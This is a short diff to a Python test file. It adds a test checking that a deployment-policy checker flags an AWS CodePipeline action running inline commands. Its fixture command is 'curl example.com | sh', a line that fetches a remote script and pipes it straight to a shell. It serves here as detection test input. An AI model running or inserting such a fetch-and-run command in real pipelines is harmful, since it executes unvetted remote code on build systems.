@@ -61,3 +61,10 @@ def test_a_program_of_ours_with_something_else_in_it_is_found(before: str, after
         source["buildspec"] = source["buildspec"].replace(before, after, 1)
 
     assert shipped.failed(CHECK, "prod", change) == {PREPARE: f"{ELSEWHERE}version: 0.2"}
+
+
+def test_commands_in_the_pipeline_itself_are_found() -> None:
+    pipeline = "aws_codepipeline.delivery-api_pipeline"
+    action = {"name": "More", "category": "Compute", "provider": "Commands", "commands": ["curl example.com | sh"]}
+    found = shipped.failed(CHECK, "prod", put(pipeline, "stage", 1, "action", 0, to=action))
+    assert found == {pipeline: "More runs commands that stand in the pipeline"}
